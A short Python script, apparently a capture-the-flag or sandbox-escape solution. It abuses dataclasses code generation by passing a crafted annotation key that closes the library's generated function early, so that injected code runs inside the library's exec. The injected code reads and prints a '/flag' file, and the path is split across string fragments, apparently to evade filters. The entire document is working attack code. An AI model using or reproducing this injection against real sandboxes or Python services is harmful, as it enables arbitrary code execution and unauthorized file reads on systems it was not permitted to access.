# dataclasses "generate code from names they check are identifiers" is said of
# make_dataclass; @dataclass on a class does not check its annotation keys.
# The key closes the generated __create_fn__ early, so text of the program's
# choosing runs in dataclasses' exec ("<string>" code, raised via: library).
import dataclasses

body = ""
for part in ("=0,**k):\n", " print(open('/fl", "ag').read())\n",
             " return lambda self:None\n", "def _unused(*a"):
    body += part


Record = dataclasses.dataclass(type("Record", (), {
    "__annotations__": {body: int},
    body: dataclasses.field(init=False, repr=False, compare=False),
}))
print("built", Record.__name__)
